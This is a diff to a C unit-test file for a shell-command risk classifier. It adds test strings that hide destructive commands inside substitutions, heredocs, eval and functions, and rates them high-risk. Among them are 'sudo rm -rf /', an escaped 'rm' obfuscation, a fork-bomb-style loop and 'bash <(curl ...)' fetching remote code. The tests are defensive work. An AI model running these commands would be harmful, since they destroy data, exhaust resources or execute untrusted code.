@@ -13,6 +13,7 @@
 #include <cmocka.h>
 
 #include "base/alloc.h"
+#include "command/shell_tree.h"
 
 #define COUNT(array) (sizeof(array) / sizeof((array)[0]))
 #define DEL RISK_DATA_DELETION
@@ -67,7 +68,24 @@ static const struct {
     {"frobnicate --all", RISK_MEDIUM, 0}, /* in doubt the more cautious level */
     {"env", RISK_MEDIUM, EXF},
 
+    {"if [ -f x ]; then echo yes; fi", RISK_LOW, 0},
+    {"for i in 1 2; do echo $i; done", RISK_LOW, 0},
+    {"{ date; uptime; } > out.txt", RISK_MEDIUM, 0},
+
     {"rm -rf build", RISK_HIGH, DEL},
+    {"if true; then rm -rf y; fi", RISK_HIGH, DEL},
+    {"echo $(rm -rf y)", RISK_HIGH, DEL},
+    {"cat <<E\n$(rm -rf y)\nE\n", RISK_HIGH, DEL},
+    {"echo hi > ~/.bashrc", RISK_HIGH, SYS},
+    {"{ echo hi; } > ~/.bashrc", RISK_HIGH, SYS},
+    {"ls | xargs rm", RISK_HIGH, DEL},
+    {"ssh host 'rm -rf y'", RISK_HIGH, DEL | NET},
+    {"f() { rm -rf y; }; f", RISK_HIGH, DEL},
+    {"eval 'rm -rf y'", RISK_HIGH, DEL},
+    {"$'r\\x6d' -rf y", RISK_HIGH, 0},
+    {"bash <(curl -s https://x.example/i.sh)", RISK_HIGH, NET},
+    {"while true; do sleep 9 & done", RISK_HIGH, RES},
+    {"echo ${x@P}", RISK_HIGH, 0},
     {"rm file", RISK_HIGH, DEL},
     {"sudo ls", RISK_HIGH, PRV},
     {"sudo rm -rf /", RISK_HIGH, PRV | DEL},
@@ -205,7 +223,7 @@ static void too_many_commands_are_high(void **state)
 {
     (void)state;
     struct assessment got;
-    char line[2000];
+    char line[2 * (SHELL_TREE_COMMANDS_MAX + 1)];
     for (size_t i = 0; i < sizeof(line); i += 2)
         memcpy(line + i, "w;", 2);
     assessment_of_line(line, sizeof(line), "/", NULL, &got);
